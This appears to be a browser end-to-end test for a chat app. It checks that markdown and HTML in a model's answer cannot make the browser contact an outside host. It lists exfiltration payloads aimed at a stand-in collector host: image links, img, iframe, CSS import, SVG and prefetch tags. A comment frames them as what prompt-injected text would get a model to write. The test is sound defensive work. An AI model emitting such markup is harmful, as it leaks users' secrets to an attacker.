import { expect, test } from './support/signed-in.ts';

const stolen = 'https://collector.example/steal?secret=42';

/** Ways to make a reader's browser call another host, as an injected document would have a model write them. */
const injected = [
  'BEGIN',
  `![picture](${stolen})`,
  `![reference][one]`,
  `[![linked](${stolen})](${stolen})`,
  `![protocol](//collector.example/steal)`,
  `<img src="${stolen}">`,
  `<style>@import url(${stolen});</style>`,
  `<svg><image href="${stolen}"/></svg>`,
  `<iframe src="${stolen}"></iframe>`,
  `<link rel="prefetch" href="${stolen}">`,
  '```html\n<img src="https://collector.example/code">\n```',
  `[one]: ${stolen}`,
  'END',
].join('\n\n');

test.use({ installation: 'images', answer: injected });

test('nothing in a message makes the browser call anyone', async ({ page, seed }) => {
  const asked: string[] = [];
  await page.context().route(/collector\.example/, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  await page.goto(`/chat/${seed.slowAgentId}`);
  await page.getByRole('textbox', { name: 'Message' }).fill(`Show me ![mine](${stolen}) and <img src="${stolen}">`);
  await page.keyboard.press('Enter');
  const answer = page.getByRole('article', { name: 'Narrator' }).last();
  await expect(answer).toContainText('END');
  await expect(answer).toHaveAttribute('aria-busy', 'false');
  await page.reload();
  await expect(answer).toContainText('END');
  await page.waitForLoadState('networkidle');
  const sources = page.getByRole('main').locator('img, iframe, object, embed, video, audio, link, style, image');
  await expect(sources).toHaveCount(0);
  expect(asked).toEqual([]);
});
